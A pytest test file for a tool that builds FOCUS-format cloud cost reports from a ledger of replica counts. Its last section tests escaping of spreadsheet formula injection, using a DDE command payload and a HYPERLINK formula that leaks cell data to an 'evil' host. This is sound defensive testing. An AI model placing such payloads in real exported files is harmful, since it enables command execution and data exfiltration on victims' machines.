"""``forecastle costs``: from what a real ledger recorded to a file with FOCUS columns that a spreadsheet may open."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from price_worlds import M6I, POOL, SITE, at, write_book, write_fleet
from typer.testing import CliRunner

from forecastle.cli import app
from forecastle.errors import ConfigError
from forecastle.ledger.store import SqlLedger
from forecastle.runtime.clocks import EventClock
from forecastle.runtime.config import load
from forecastle.runtime.costs import Charge, Nature
from forecastle.runtime.costs_focus import COLUMNS, NUMBERS, RISKY, TIMES, cell, write
from forecastle.runtime.costs_levels import levels
from forecastle.runtime.costs_report import report_costs
from forecastle.settings import LedgerSettings
from forecastle.types import Kind, Observed, Outcome, Plan, Status

HOUR, MINUTE = 3_600_000, 60_000
START = at("2026-11-30T20:00")
FROM, TO = datetime(2026, 11, 30, 20, tzinfo=UTC), datetime(2026, 12, 1, 4, tzinfo=UTC)


class Scribe:
    """Writes into a ledger as a worker would, at times of the test's choosing."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        self.ledger = SqlLedger(LedgerSettings(url=f"sqlite:///{folder}/ledger.db"), EventClock(START))
        self.ids = iter(range(10_000))

    def tick(self, when: int, **pools: int) -> None:
        """A decided tick at which ``pools`` were observed; none: the tick had no plan."""
        self.ledger.clock = EventClock(when)
        evidence = {"shop": {"wanted": 3, "pools": pools}}
        plan = Plan(f"plan-{next(self.ids)}", when, "", (), "", evidence, (), {}, 0.0, when + HOUR)
        self.ledger.record(when, "w", [plan] if pools else [])

    def scaled(self, when: int, pool: str, before: int, after: int | None, status: Status = Status.APPLIED) -> None:
        """The outcome of a scaling at ``when``; ``after`` None: it was not read back."""
        states = [None if n is None else Observed(pool, n, n, when, f"v{n}") for n in (before, after)]
        self.ledger.clock = EventClock(when)
        self.ledger.conclude(Outcome(f"a{next(self.ids)}", status, when, pool, Kind.SCALE, "shop", *states))


@pytest.fixture
def scribe(tmp_path: Path) -> Iterator[Scribe]:
    here = Scribe(tmp_path)
    yield here
    here.ledger.close()


def report(scribe: Scribe, tmp_path: Path, *pools: Mapping[str, Any], out: str = "costs.csv", **more: Any) -> list[str]:
    settings = load([write_fleet(tmp_path, *pools, **more)], environment={}, look_up=False)
    return report_costs(settings, scribe.ledger, FROM, TO, out=tmp_path / out)


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


# --- levels from the ledger -----------------------------------------------------------------------------------------


def test_ticks_tell_what_was_seen_and_outcomes_what_followed(scribe: Scribe) -> None:
    scribe.tick(START, a=2, b=1)
    scribe.tick(START + MINUTE)
    scribe.scaled(START + 2 * MINUTE, "a", 2, 4)
    scribe.tick(START + 3 * MINUTE, a=4)
    scribe.tick(START + 9 * MINUTE, a=3)
    found = levels(scribe.ledger, ["a"], START, START + HOUR)
    assert list(found["a"].between(START, START + HOUR)) == [
        (START, START + 2 * MINUTE, 2),
        (START + 2 * MINUTE, START + 3 * MINUTE, 4),
        (START + 3 * MINUTE, START + 9 * MINUTE, 4),
        (START + 9 * MINUTE, START + HOUR, 3),
    ]
    assert found["b"].replicas == (1,)


def test_at_one_time_the_outcome_comes_after_the_tick(scribe: Scribe) -> None:
    """In a replay the clock stands still between a decision and its effect."""
    scribe.scaled(START, "a", 2, 5)
    scribe.tick(START, a=2)
    assert levels(scribe.ledger, [], START, START + HOUR)["a"].replicas == (5,)


@pytest.mark.parametrize("status", [Status.UNVERIFIED, Status.FAILED, Status.REFUSED])
def test_what_was_not_read_back_is_not_taken_for_done(scribe: Scribe, status: Status) -> None:
    scribe.tick(START, a=2)
    scribe.scaled(START + MINUTE, "a", 2, None, status)
    assert set(levels(scribe.ledger, ["a"], START, START + HOUR)["a"].replicas) == {2}


def test_the_last_level_before_the_time_is_found_days_back(scribe: Scribe) -> None:
    scribe.tick(START - 20 * 24 * HOUR, quiet=3)
    scribe.tick(START - 40 * 24 * HOUR, older=9)
    scribe.tick(START + MINUTE, busy=1)
    found = levels(scribe.ledger, ["quiet", "busy", "older"], START, START + HOUR)
    assert found["quiet"].replica_ms(START, START + HOUR) == 3 * HOUR
    assert "older" not in found, "31 days is as far as it looks"
    assert "quiet" not in levels(scribe.ledger, ["busy"], START + 2 * MINUTE, START + HOUR), "nobody asked for it"


def test_long_times_are_read_in_pieces_that_join(scribe: Scribe) -> None:
    for hour in range(0, 30, 3):
        scribe.tick(START + hour * HOUR, a=hour)
    found = levels(scribe.ledger, ["a"], START, START + 30 * HOUR)
    assert found["a"].replicas == tuple(range(0, 30, 3))
    assert levels(scribe.ledger, ["a"], START, START + 3 * HOUR)["a"].replica_ms(START, START + 3 * HOUR) == 0


# --- the report -----------------------------------------------------------------------------------------------------


def test_the_sum_of_billed_cost_is_what_the_hours_cost(scribe: Scribe, tmp_path: Path) -> None:
    """A night with scalings, a spot price that moves and a commitment, added up by hand."""
    write_book(tmp_path / "prices", M6I | {"commitment": {"count": 2, "price_h": 0.06}})
    spot = {"sku": "m6i.large", "provider": "aws", "region": "eu-central-1", "zone": "eu-central-1a"}
    dear = spot | {"spot_price_h": 0.05, "valid_from": "2026-12-01T01:30:00Z"}
    write_book(tmp_path / "prices", spot | {"spot_price_h": 0.03}, dear, book="aws-spot")
    scribe.tick(START, **{"shop-fra": 1, "shop-spot": 4})
    scribe.scaled(START + 90 * MINUTE, "shop-fra", 1, 5)
    scribe.scaled(START + 6 * HOUR, "shop-spot", 4, 0)
    done, *notes = report(scribe, tmp_path, POOL, POOL | {"name": "shop-spot", "spot": True})
    rows = read(tmp_path / "costs.csv")

    by_hour = [1, 3, 5, 5, 5, 5, 5, 5]  # mean replicas of shop-fra
    expected = 8 * 2 * 0.06 + sum(max(0, n - 2) for n in by_hour) * 0.115 + 4 * (5.5 * 0.03 + 0.5 * 0.05)
    assert sum(float(row["BilledCost"]) for row in rows) == pytest.approx(expected)
    assert sum(float(row["EffectiveCost"]) for row in rows) == pytest.approx(expected)
    assert notes == []
    told, _, money = done.rpartition(", ")
    assert told == f"{tmp_path}/costs.csv: {len(rows)} charges"
    assert float(money.removesuffix(" USD")) == pytest.approx(expected, abs=0.0051)
    hours = [float(row["ConsumedQuantity"]) for row in rows if row["ConsumedQuantity"]]
    assert sum(hours) == pytest.approx(sum(by_hour) + 24)
    assert all(float(r["ListCost"]) >= float(r["BilledCost"]) - 1e-12 for r in rows)


def test_the_columns_are_those_of_focus_and_hold_what_it_asks_for(scribe: Scribe, tmp_path: Path) -> None:
    write_book(tmp_path / "prices", M6I | {"commitment": {"count": 2, "price_h": 0.06}})
    scribe.tick(START, **{"shop-fra": 1, "shop-spot": 1})
    clouds = {"sim": {"adapter": "forecastle.clouds.sim:open_cloud", "account": "123456789012"}}
    report(scribe, tmp_path, POOL, POOL | {"name": "shop-spot", "spot": True}, clouds=clouds)
    rows = read(tmp_path / "costs.csv")
    assert tuple(rows[0]) == COLUMNS == tuple(sorted(COLUMNS))
    first = {row["ChargeDescription"]: row for row in rows if row["ChargePeriodStart"] == "2026-11-30T23:00:00.000Z"}
    used, unused = (
        first["replicas of shop-fra covered by commitment aws/eu-central-1/m6i.large"],
        first["replicas of commitment aws/eu-central-1/m6i.large that nobody used"],
    )
    assert used | dict.fromkeys(NUMBERS, "") == dict.fromkeys(COLUMNS, "") | {
        "AvailabilityZone": "a",
        "BillingAccountId": "123456789012",
        "BillingAccountName": "123456789012",
        "BillingCurrency": "USD",
        "BillingPeriodEnd": "2026-12-01T00:00:00.000Z",
        "BillingPeriodStart": "2026-11-01T00:00:00.000Z",
        "ChargeCategory": "Usage",
        "ChargeDescription": "replicas of shop-fra covered by commitment aws/eu-central-1/m6i.large",
        "ChargeFrequency": "Usage-Based",
        "ChargePeriodEnd": "2026-12-01T00:00:00.000Z",
        "ChargePeriodStart": "2026-11-30T23:00:00.000Z",
        "CommitmentDiscountCategory": "Usage",
        "CommitmentDiscountId": "aws/eu-central-1/m6i.large",
        "CommitmentDiscountName": "aws/eu-central-1/m6i.large",
        "CommitmentDiscountStatus": "Used",
        "CommitmentDiscountType": "Committed replicas",
        "ConsumedUnit": "Hours",
        "InvoiceIssuerName": "aws",
        "PricingCategory": "Committed",
        "PricingUnit": "Hours",
        "ProviderName": "aws",
        "PublisherName": "aws",
        "RegionId": "eu-central-1",
        "RegionName": "eu-central-1",
        "ResourceId": "shop-fra",
        "ResourceName": "shop-fra",
        "ResourceType": "Pool",
        "ServiceCategory": "Compute",
        "ServiceName": "sim",
        "SkuId": "m6i.large",
        "SkuPriceId": "m6i.large/list@1/used",
        "Tags": '{"workload": "shop", "pool": "shop-fra", "site": "fra"}',
    }
    assert (unused["CommitmentDiscountStatus"], unused["ConsumedQuantity"], unused["ConsumedUnit"]) == ("Unused", "", "")
    assert (unused["ResourceType"], json.loads(unused["Tags"])) == ("Commitment", {})
    bought = first["commitment aws/eu-central-1/m6i.large"]
    assert (bought["ChargeCategory"], bought["ChargeFrequency"], bought["PricingCategory"]) == (
        "Purchase",
        "Recurring",
        "Standard",
    )
    assert (bought["BilledCost"], bought["EffectiveCost"], bought["CommitmentDiscountStatus"]) == ("0.12", "0", "")
    spot = first["spot replicas of shop-spot"]
    assert (spot["PricingCategory"], spot["BilledCost"], spot["ListCost"]) == ("Dynamic", "0.043", "0.115")


def test_every_row_obeys_the_rules_that_focus_makes(scribe: Scribe, tmp_path: Path) -> None:
    write_book(tmp_path / "prices", M6I | {"commitment": {"count": 2, "price_h": 0.06}})
    scribe.tick(START, **{"shop-fra": 3, "shop-spot": 1, "bare": 2})
    bare = {"name": "bare", "site": "fra", "unit_price": 1.0}
    report(scribe, tmp_path, POOL, POOL | {"name": "shop-spot", "spot": True}, bare)
    rows = read(tmp_path / "costs.csv")
    assert {row["PricingCategory"] for row in rows} == {"Standard", "Dynamic", "Committed"}
    for row in rows:
        assert all(row[name] for name in ("BillingAccountId", "ProviderName", "ServiceName", "ServiceCategory", "Tags", *TIMES))
        assert row["BillingPeriodStart"] <= row["ChargePeriodStart"] < row["ChargePeriodEnd"] <= row["BillingPeriodEnd"]
        assert (row["ConsumedQuantity"] == "") == (row["ConsumedUnit"] == "")
        assert float(row["ContractedCost"]) == pytest.approx(float(row["ContractedUnitPrice"]) * float(row["PricingQuantity"]))
        if row["ListUnitPrice"]:
            assert float(row["ListCost"]) == pytest.approx(float(row["ListUnitPrice"]) * float(row["PricingQuantity"]))
        if row["CommitmentDiscountStatus"]:
            assert row["CommitmentDiscountId"]
            assert row["ChargeCategory"] == "Usage"
        if row["ChargeCategory"] == "Purchase":
            assert float(row["EffectiveCost"]) == 0
        assert (row["SkuId"] == "") == (row["ResourceId"] == "bare")


def test_parquet_holds_the_same_with_types(scribe: Scribe, tmp_path: Path) -> None:
    write_book(tmp_path / "prices", M6I | {"commitment": {"count": 2, "price_h": 0.06}})
    scribe.tick(START, **{"shop-fra": 1})
    report(scribe, tmp_path, POOL)
    report(scribe, tmp_path, POOL, out="deep/costs.parquet")
    table = pq.read_table(tmp_path / "deep" / "costs.parquet")
    assert table.column_names == list(COLUMNS)
    assert {str(table.schema.field(name).type) for name in TIMES} == {"timestamp[ms, tz=UTC]"}
    assert {str(table.schema.field(name).type) for name in NUMBERS} == {"double"}
    rows = table.to_pylist()
    assert [{name: cell(value) for name, value in row.items()} for row in rows] == read(tmp_path / "costs.csv")
    assert rows[0]["ChargePeriodStart"] == datetime(2026, 11, 30, 20, tzinfo=UTC)
    assert [p.name for p in (tmp_path / "deep").iterdir()] == ["costs.parquet"]


def test_what_is_not_in_the_sum_is_said(scribe: Scribe, tmp_path: Path) -> None:
    scribe.tick(START + HOUR, late=1, gone=2)
    scribe.tick(START, known=1)
    pools = [{"name": name, "site": "fra", "unit_price": 1.0} for name in ("known", "late", "never")]
    done, *notes = report(scribe, tmp_path, *pools)
    assert done.endswith("15 charges, 15.00 USD")
    assert notes == [
        "pool late: the ledger has not seen it before 2026-11-30T21:00:00+00:00; what it cost before is not in the sum",
        "pool never: the ledger has not seen it; it is not in the sum",
        "pool gone: had 14 replica-hours, but is not configured any more; it is not in the sum",
    ]


def test_times_that_are_exchanged_and_foreign_currencies_are_refused(scribe: Scribe, tmp_path: Path) -> None:
    write_book(tmp_path / "prices", M6I)
    settings = load([write_fleet(tmp_path, POOL)], environment={}, look_up=False)
    with pytest.raises(ConfigError, match="--to 2026-11-30T20:00: is not after --from; exchange them"):
        report_costs(settings, scribe.ledger, TO, FROM, out=tmp_path / "x.csv")
    with pytest.raises(ConfigError, match="--currency EUR: the price books are in USD; leave --currency away"):
        report_costs(settings, scribe.ledger, FROM, TO, out=tmp_path / "x.csv", currency="EUR")


def test_without_books_the_currency_is_the_one_given(scribe: Scribe, tmp_path: Path) -> None:
    scribe.tick(START, p=1)
    settings = load([write_fleet(tmp_path, {"name": "p", "site": "fra", "unit_price": 1.0})], environment={}, look_up=False)
    report_costs(settings, scribe.ledger, FROM, TO, out=tmp_path / "x.csv", currency="EUR")
    assert {row["BillingCurrency"] for row in read(tmp_path / "x.csv")} == {"EUR"}


def test_a_report_that_cannot_be_priced_leaves_the_old_file(scribe: Scribe, tmp_path: Path) -> None:
    scribe.tick(START, **{"shop-fra": 1})
    (tmp_path / "costs.csv").write_text("the last one")
    with pytest.raises(ConfigError, match=r"no price book says price_h of m6i.large"):
        report(scribe, tmp_path, POOL)
    assert (tmp_path / "costs.csv").read_text() == "the last one"


@pytest.mark.parametrize("name", ["costs.xlsx", "costs", "costs.csv.gz"])
def test_another_ending_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(ConfigError, match=r"ends in neither .csv nor .parquet; name it costs.csv"):
        write(tmp_path / name, [])
    assert list(tmp_path.iterdir()) == []


def test_the_command_reports_on_the_ledger_of_the_settings(scribe: Scribe, tmp_path: Path) -> None:
    write_book(tmp_path / "prices", M6I)
    scribe.tick(START + HOUR, **{"shop-fra": 2})
    config, out = write_fleet(tmp_path, POOL), tmp_path / "costs.csv"
    asked = ["costs", "--from", "2026-11-30T20:00:00", "--to", "2026-12-01T00:00:00", "--out", str(out), "-c", str(config)]
    done = CliRunner().invoke(app, asked)
    assert (done.exit_code, done.stdout) == (0, f"{out}: 3 charges, 0.69 USD\n")
    assert "has not seen it before 2026-11-30T21:00:00+00:00" in done.stderr


# --- cells that a spreadsheet would run -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1", "'  =1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (0.1 + 0.2, "0.3"),
        (1e-07, "1e-07"),
        (0.0, "0"),
    ],
)
def test_text_that_looks_like_a_formula_becomes_text(value: Any, shown: str) -> None:
    assert cell(value) == shown


@given(st.text(max_size=20))
def test_no_text_begins_a_formula_and_none_is_lost(text: str) -> None:
    shown = cell(text)
    assert not shown.lstrip(" ").startswith(RISKY)
    assert shown.removeprefix("'") == text.removeprefix("'") or shown == text
    file = io.StringIO()
    csv.writer(file).writerow([shown, "next"])
    assert next(csv.reader(io.StringIO(file.getvalue(), newline="")))[-1] == "next"


def test_names_from_the_configuration_are_made_safe_in_every_column(scribe: Scribe, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
    site = SITE | {"name": "fra", "provider": "@p", "region": "+r", "zone": "-z"}
    scribe.tick(START, **{evil: 1})
    pool = {"name": evil, "site": "fra", "sku": "=1+1", "unit_price": 1.0, "committed": 1}
    report(scribe, tmp_path, pool, sites=(site,))
    rows = read(tmp_path / "costs.csv")
    assert len(rows) == 16
    for row in rows:
        assert not [name for name, value in row.items() if value.startswith(RISKY)]
    assert {row["ResourceId"] for row in rows} == {f"'{evil}"}
    assert {row["RegionId"] for row in rows} == {"'+r"}


def test_a_charge_knows_its_sums() -> None:
    charge = Charge(Nature.USED, 0, HOUR, "p", 3.0, 0.1, 0.0, 0.06)
    assert (charge.billed, charge.effective, charge.listed) == pytest.approx((0.0, 0.18, 0.3))
    assert Charge(Nature.UNUSED, 0, HOUR, "p", 3.0, None, 0.0, 0.06).listed == 0.0
